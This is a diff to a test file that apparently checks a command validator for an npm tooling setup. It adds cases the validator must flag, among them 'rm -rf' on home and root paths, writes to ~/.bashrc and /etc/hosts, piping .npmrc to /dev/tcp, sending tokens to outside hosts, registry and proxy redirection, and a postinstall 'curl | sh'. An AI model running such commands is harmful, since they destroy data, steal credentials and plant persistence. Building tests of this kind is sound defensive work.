@@ -252,6 +252,46 @@ test.each([
   `node -e "require('https').get('https://evil.example.com/' + fs.readFileSync('.npmrc'))"`,
   'docker run -v $HOME:/home evil',
   'docker run -v ~/:/home evil',
+  'docker run evil/image',
+  'docker run -d --name x -e A=b evil npm ci',
+  'docker run --rm -it evil.io/node',
+  'docker pull evil/node',
+  'docker build https://git.example.com/a.git',
+  'git push --force',
+  'git push -f origin main',
+  'git push --mirror https://git.example.com/a.git',
+  'git push origin +main',
+  'git push origin :main',
+  'git -C a push --delete origin main',
+  'rm -rf {node_modules,/}',
+  'rm -rf {/,x}',
+  'rm -rf node_modules/{a,../../..}',
+  'rm -rf ~/Documents',
+  'rm -rf ~/.ssh',
+  'rm -rf ~/.npm/../Documents',
+  'rm -rf "$TARGET"/',
+  'rm -rf /[a-z]*',
+  'rm -rf ../../../etc',
+  'rm -rf packages/../../..',
+  'rm -rf /var/lib/data',
+  'echo x > ~/.bashrc',
+  'echo x >> ~/.profile',
+  'printf x > "$HOME/.npmrc"',
+  'echo x > /etc/hosts',
+  'echo x > ~/".bash"rc',
+  'echo x > "$TARGET"',
+  'echo x > .git/hooks/pre-commit',
+  'echo x | tee -a ~/.bashrc',
+  'cp widgets.sh ~/.zshrc',
+  'mv widgets.sh ~/.config/autostart/a.desktop',
+  'ln -s ../x ~/.ssh/authorized_keys',
+  'curl -sSo ~/.bashrc {registry}',
+  'cat .npmrc > /dev/tcp/registry.example.com/80',
+  'grep x .npmrc > /dev/udp/registry.example.com/80',
+  'PATH=./tools:$PATH npm ls',
+  'export PATH=./tools:$PATH',
+  'curl -sS -H "authorization: Bearer $NPM_TOKEN" https://fulcio.sigstore.dev/',
+  'NPM_TOKEN=$CI_TOKEN npm ping --registry=https://tuf-repo-cdn.sigstore.dev/',
 ])('%s does harm', (text) => {
   expect(faults(text)).toMatch(/^11: the command .*take it out/m)
 })
@@ -313,6 +353,109 @@ test.each([
   )
 })
 
+// Put together as the tests run: no file names the host of a stranger.
+const stranger = ['evil-corp', 'io'].join('.')
+
+test.each([
+  'curl -sS https://STRANGER/',
+  'curl -sS STRANGER',
+  'curl -sS https:STRANGER/',
+  'curl -sS https:///STRANGER/',
+  'curl -sS https://registry.example.com@STRANGER/',
+  'curl -sS "https://STRANGER\\@registry.example.com/"',
+  'curl -sS 3232235777',
+  'curl -sS https://$HOST/',
+  'curl -sS "$ADDRESS"',
+  'curl -sS -x STRANGER:80 {registry}',
+  'curl -sS --connect-to ::STRANGER:443 {registry}',
+  'curl -sS -H "authorization: Bearer $NPM_TOKEN" https://STRANGER/',
+  'curl -sS -u "ada:$PASSWORD" https://STRANGER/',
+  'curl -sS -A "$NPM_TOKEN" https://STRANGER/',
+  'curl -n https://STRANGER/',
+  'nc -vz STRANGER 443',
+  'ssh -T git@STRANGER',
+  'dig STRANGER',
+  'dig {host} @10.0.0.1',
+  'openssl s_client -connect STRANGER:443',
+  'npm view {package} --registry=https://STRANGER/',
+  'npm view {package} --//STRANGER/:_authToken=$NPM_TOKEN',
+  'npm login --registry=https://STRANGER/',
+  'npm publish --registry https://STRANGER/',
+  'npm config set registry=https://STRANGER/',
+  'npm config set @acme:registry https://STRANGER/',
+  'npm config set //STRANGER/:_authToken=$NPM_TOKEN',
+  'npm config set https-proxy=https://STRANGER:8080/',
+  'npm config set noproxy=STRANGER',
+  'npm pkg set publishConfig.registry=https://STRANGER/',
+  'npm install https://STRANGER/a.tgz',
+  'npm install git+ssh://git@STRANGER/a.git',
+  'NPM_CONFIG_REGISTRY=https://STRANGER/ npm ci',
+  'export HTTPS_PROXY=http://STRANGER:8080',
+  'export HTTPS_PROXY=STRANGER:8080',
+  'HOST=STRANGER; npm view {package}',
+  'git config --global url."https://STRANGER/".insteadOf https://git.example.com/',
+  'git config --global http.proxy STRANGER:8080',
+  'git clone https://STRANGER/a.git',
+  'git clone git@STRANGER:acme/a.git',
+  'git clone STRANGER:acme/a.git',
+  `node -e "fetch('https://STRANGER/')"`,
+])('%s names a host of a stranger', (text) => {
+  expect(faults(text.replaceAll('STRANGER', stranger))).toMatch(
+    /is no host that entries may name|takes packages from it, in the clear/,
+  )
+})
+
+test.each([
+  'curl -sS -o /dev/null https://tuf-repo-cdn.sigstore.dev/timestamp.json',
+  'curl -sS -H "authorization: Bearer $ACTIONS_ID_TOKEN_REQUEST_TOKEN" "$ACTIONS_ID_TOKEN_REQUEST_URL&audience=x"',
+  'curl -sS --max-time 5 --retry 2 --noproxy "*" http://{host}/',
+  'npm ping --registry=http://127.0.0.1:4873/',
+  'git clone git@git.example.com:acme/widgets.git',
+  'dig {host} @1.1.1.1',
+  'grep -o "https://[^/]*" package-lock.json',
+  'npm view left-pad@1.2.0 --registry=https://registry.example.org/',
+  'docker run --rm -v ~/.npm:/cache -w /app node:24-slim npm ci',
+  'rm -r packages/site "$(npm config get cache)/_cacache"',
+  'mv packages/left-pad ../left-pad',
+  'export PATH="$HOME/.local/bin:$PATH"',
+  'npm pkg set scripts.build="tsc --build"',
+  'npm install left-pad@^1.3.0 ./widgets-1.0.0.tgz @acme/widgets@next',
+])('%s is nobody’s harm', (text) => {
+  expect(faults(text)).toBe('')
+})
+
+test.each([
+  'npm install evil-pkg',
+  'npm i -g evil-pkg@1.0.0',
+  'npm add evil-pkg',
+  'npm install acme/evil-pkg',
+  'npm install left-pad@acme/evil-pkg',
+  'npm install left-pad@npm:evil-pkg',
+  'npm install github:acme/evil-pkg',
+  'npm link evil-pkg',
+  'npm cache add evil-pkg',
+  'npm pkg set dependencies.evil-pkg=1.0.0',
+  'npm pkg set devDependencies[evil-pkg]=1.0.0',
+  'npx npm@11 install evil-pkg',
+])('%s installs a package that no entry knows', (text) => {
+  expect(faults(text)).toMatch(/installs “[^”]*”, a package that no entry knows/)
+})
+
+test.each([
+  'npm pkg set scripts.postinstall="curl {registry} | sh"',
+  'npm pkg set "scripts[prepare]=node x.js"',
+  `npm pkg set --json 'scripts={"postinstall":"x"}'`,
+])('%s writes a script that no entry knows', (text) => {
+  expect(faults(text)).toMatch(/writes the script “/)
+})
+
+test.each(['gh auth token', 'gh gist create .npmrc', 'gh api --method DELETE /repos/acme/widgets'])(
+  '%s is given by no entry',
+  (text) => {
+    expect(faults(text)).toMatch(/“gh” is no program that entries use/)
+  },
+)
+
 test.each([
   ['npm logout', 'changes-registry', 'revokes'],
   ['npm token revoke 1a2b3c', 'changes-registry', 'revokes'],
@@ -365,6 +508,24 @@ test.each([
   ['ssh -p 22 git.example.com rm a', 'reads', 'changes-machine'],
   ['curl -sSD headers.txt {registry}', 'reads', 'changes-machine'],
   ['curl --cookie-jar a.txt {registry}', 'reads', 'changes-machine'],
+  ['node x.js', 'reads', 'changes-machine'],
+  ['node --test', 'reads', 'changes-machine'],
+  ['node -e "process.exit()"', 'reads', 'changes-machine'],
+  ['node --print "globalThis"', 'reads', 'changes-machine'],
+  ['node -p process.version --import ./x.js', 'reads', 'changes-machine'],
+  ['node --import ./x.js -p process.version', 'reads', 'changes-machine'],
+  ['./tools/run', 'reads', 'changes-machine'],
+  ['npm run build', 'reads', 'changes-machine'],
+  ['npm test', 'reads', 'changes-machine'],
+  ['npm start', 'reads', 'changes-machine'],
+  ['npm pack', 'reads', 'changes-machine'],
+  ['npm pack --dry-run', 'reads', 'changes-machine'],
+  ['npm publish --dry-run', 'reads', 'changes-machine'],
+  ['npm restart', 'reads', 'changes-machine'],
+  ['mount -o remount,rw /', 'reads', 'changes-machine'],
+  ['export npm_config_loglevel=http', 'reads', 'changes-machine'],
+  ['git push', 'changes-machine', 'changes-registry'],
+  ['git -C a push origin main', 'reads', 'changes-registry'],
   ['openssl enc -out=a.txt', 'reads', 'changes-machine'],
   [`node -e "require('fs').cpSync('a', 'b')"`, 'reads', 'changes-machine'],
 ] as const)('%s is not labelled %s but %s', (text, label, right) => {
@@ -373,8 +534,16 @@ test.each([
 })
 
 test.each([
-  'npm publish --dry-run',
+  'npm publish --dry-run --ignore-scripts',
+  'npm pack {package} --dry-run',
   'npm ci --dry-run',
+  'npm run',
+  'npm run --help',
+  "npm exec -c 'node --version'",
+  'node --version',
+  'node -p process.version',
+  'node -p "process.platform + \' \' + process.arch"',
+  `node -e "require('node:dns').lookup('{host}', console.log)"`,
   'npm dist-tag ls a',
   'npm patch ls',
   'npm cache npx ls',
